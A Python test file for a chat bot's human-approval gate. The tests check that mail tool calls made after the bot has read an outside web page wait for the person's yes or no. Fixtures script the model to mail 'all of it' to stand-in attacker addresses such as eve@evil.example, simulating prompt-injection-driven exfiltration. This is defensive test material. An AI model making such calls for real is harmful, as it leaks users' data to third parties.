"""A call that rests on words of others waits for a person's word, and only that word lets it run."""

from collections.abc import Callable
from typing import Any

import pytest

from bot.core.gate import Doubt, Reason
from bot.core.messages import InboundKind, OutboundKind
from bot.core.texts import model, people_holds
from bot.journal.holds import list_reasons
from tests.approvals.conftest import RunBot
from tests.support.bench import Bench
from tests.support.fakes import reply, uses
from tests.support.mailing import Post

REPLY, APPROVAL, NOTICE = OutboundKind.REPLY, OutboundKind.APPROVAL, OutboundKind.NOTICE
YES, ALWAYS, NO = (each() for each in (people_holds.ALLOW, people_holds.ALLOW_IN_CONVERSATION, people_holds.DENY))
ANN = "ann@home.example"
Ask = Callable[..., Any]


async def test_what_the_person_asked_for_runs_unasked(bench: Bench, run: RunBot, post: Post) -> None:
    bench.model.says("lead", reply(uses("browse")), reply(uses("mail", to=ANN, text="It rains.")), "Done.")
    async with run():
        bench.chat.hears(f"Read the page and send a mail to {ANN} with what it says")
        assert await bench.chat.said(REPLY) == "Done."
    assert post.sent == [(ANN, "It rains.")]
    assert bench.count("questions") == 0


async def test_before_words_of_others_were_read_everything_runs(bench: Bench, run: RunBot, post: Post) -> None:
    bench.model.says("lead", reply(uses("look")), reply(uses("mail", to=ANN, text="x")), "Done.")
    async with run():
        bench.chat.hears("hello")
        assert await bench.chat.said(REPLY) == "Done."
    assert post.sent == [(ANN, "x")]


@pytest.mark.fast
async def test_the_question_shows_the_exact_call_and_a_yes_runs_it(
    bench: Bench, run: RunBot, post: Post, ask: Ask
) -> None:
    async with run():
        asked = await ask("What does the page say?")
        assert asked.options == (YES, ALWAYS, NO)
        assert all(each in asked.text for each in ("mail", "eve@evil.example", "all of it"))
        assert post.sent == []
        bench.chat.taps(asked.id, YES)
        assert await bench.chat.said(REPLY) == "Done."
    assert post.sent == [("eve@evil.example", "all of it")]


@pytest.mark.fast
@pytest.mark.parametrize("words", [NO, "no", "nein", "3"])
async def test_a_no_runs_nothing_and_the_model_is_told(
    bench: Bench, run: RunBot, post: Post, ask: Ask, words: str
) -> None:
    async with run():
        await ask("What does the page say?")
        bench.chat.hears(words)
        assert await bench.chat.said(REPLY) == "Done."
    assert post.sent == []
    assert bench.model.heard("lead") == [model.NOT_AGREED(answer=NO)]


async def test_a_reply_in_words_says_no_and_why(bench: Bench, run: RunBot, post: Post, ask: Ask) -> None:
    async with run():
        asked = await ask("What does the page say?")
        bench.chat.hears("never to her, please", reply_to=f"{asked.id}:0")
        assert await bench.chat.said(REPLY) == "Done."
    assert post.sent == []
    assert bench.model.heard("lead") == [model.NOT_AGREED(answer="never to her, please")]


async def test_a_plain_yes_agrees(bench: Bench, run: RunBot, post: Post, ask: Ask) -> None:
    async with run():
        await ask("What does the page say?")
        bench.chat.hears("yes, please")
        assert await bench.chat.said(REPLY) == "Done."
    assert len(post.sent) == 1


@pytest.mark.fast
async def test_other_words_of_the_person_withdraw_it(bench: Bench, run: RunBot, post: Post, ask: Ask) -> None:
    async with run():
        asked = await ask("What does the page say?")
        bench.chat.hears("and what is on the next page?")
        assert await bench.chat.said(REPLY) == "Done."
        bench.chat.taps(asked.id, YES)
        await bench.chat.said(NOTICE)
    assert post.sent == []
    assert "not done" in bench.model.heard("lead")[0]


async def test_a_command_does_not_withdraw_it(bench: Bench, run: RunBot, post: Post, ask: Ask) -> None:
    async with run():
        asked = await ask("What does the page say?")
        bench.chat.hears("/status", kind=InboundKind.COMMAND)
        await bench.chat.said(NOTICE)
        bench.chat.taps(asked.id, YES)
        assert await bench.chat.said(REPLY) == "Done."
    assert len(post.sent) == 1


@pytest.mark.fast
async def test_always_holds_for_this_recipient_in_this_conversation(
    bench: Bench, run: RunBot, post: Post, ask: Ask
) -> None:
    async with run():
        asked = await ask("What does the page say?")
        bench.chat.taps(asked.id, ALWAYS)
        assert await bench.chat.said(REPLY) == "Done."
        bench.model.says("lead", reply(uses("mail", to="eve@evil.example", text="more")), "Again.")
        bench.chat.hears("go on")
        assert await bench.chat.said(REPLY) == "Again."
        bench.model.says("lead", reply(uses("mail", to="mallory@evil.example", text="more")), "Other.")
        bench.chat.hears("go on")
        other = (await bench.chat.part(APPROVAL)).message
        bench.chat.taps(other.id, NO)
        assert await bench.chat.said(REPLY) == "Other."
    assert [to for to, _ in post.sent] == ["eve@evil.example"] * 2


async def test_calls_of_one_reply_are_one_question(bench: Bench, run: RunBot, post: Post) -> None:
    mails = [uses("mail", to=f"{name}@evil.example", text="x") for name in ("eve", "mallory")]
    bench.model.says("lead", reply(uses("browse")), reply(*mails, uses("note")), "Done.")
    async with run():
        bench.chat.hears("What does the page say?")
        asked = (await bench.chat.part(APPROVAL)).message
        assert asked.options == (YES, NO)
        assert all(f"{name}@evil.example" in asked.text for name in ("eve", "mallory"))
        bench.chat.taps(asked.id, YES)
        assert await bench.chat.said(REPLY) == "Done."
    assert (len(post.sent), len(post.notes)) == (2, 1)


async def test_a_request_holds_at_most_five_calls(bench: Bench, run: RunBot, post: Post) -> None:
    mails = [uses("mail", to=f"eve{number}@evil.example", text="x") for number in range(7)]
    bench.model.says("lead", reply(uses("browse")), reply(*mails), "Done.")
    async with run():
        bench.chat.hears("What does the page say?")
        asked = (await bench.chat.part(APPROVAL)).message
        bench.chat.taps(asked.id, YES)
        assert await bench.chat.said(REPLY) == "Done."
    assert [to for to, _ in post.sent] == [f"eve{number}@evil.example" for number in range(5)]
    assert bench.model.heard("lead")[5:] == [model.TOO_MANY_HELD(most=5)] * 2


async def test_a_role_asks_for_its_person(bench: Bench, run: RunBot, post: Post) -> None:
    bench.model.says("lead", reply(uses("delegate", role="researcher", task="read it")), "Done.")
    bench.model.says("researcher", reply(uses("browse")), reply(uses("mail", to="eve@evil.example")), "Read.")
    async with run():
        bench.chat.hears("What does the page say?")
        asked = (await bench.chat.part(APPROVAL)).message
        assert (asked.role, "Researcher" in asked.text) == (None, True)
        bench.chat.taps(asked.id, NO)
        assert await bench.chat.said(REPLY) == "Done."
    assert post.sent == []


async def test_the_persons_words_go_down_into_delegations(bench: Bench, run: RunBot, post: Post) -> None:
    bench.model.says("lead", reply(uses("delegate", role="researcher", task="do as told")), "Done.")
    bench.model.says("researcher", reply(uses("browse")), reply(uses("mail", to=ANN, text="Rain")), "Sent.")
    async with run():
        bench.chat.hears(f"Read the page and send a mail to {ANN}")
        assert await bench.chat.said(REPLY) == "Done."
    assert post.sent == [(ANN, "Rain")]


async def test_what_is_switched_off_asks_nothing(bench: Bench, run: RunBot, post: Post) -> None:
    bench.model.says("lead", reply(uses("browse")), reply(uses("mail", to="eve@evil.example")), "Done.")
    async with run(approvals__enabled=False):
        bench.chat.hears("What does the page say?")
        assert await bench.chat.said(REPLY) == "Done."
    assert len(post.sent) == 1


def test_a_question_tells_its_first_three_reasons_and_what_nobody_sees_in_them() -> None:
    value = "a\u200bb"
    doubts = [Doubt(Reason.VALUE_FROM_OUTSIDE, each) for each in (value, value)]
    doubts += [Doubt(Reason.POINTER_IN_TEXT, "c"), Doubt(Reason.VALUE_NOT_MEANT, "d"), Doubt(Reason.NOTHING_OF_PAYMENT)]
    unseen = people_holds.VALUE_FROM_OUTSIDE(value="a⟨U+200B⟩b")
    others = people_holds.POINTER_IN_TEXT(value="c"), people_holds.VALUE_NOT_MEANT(value="d")
    assert list_reasons(doubts) == [unseen, *others]
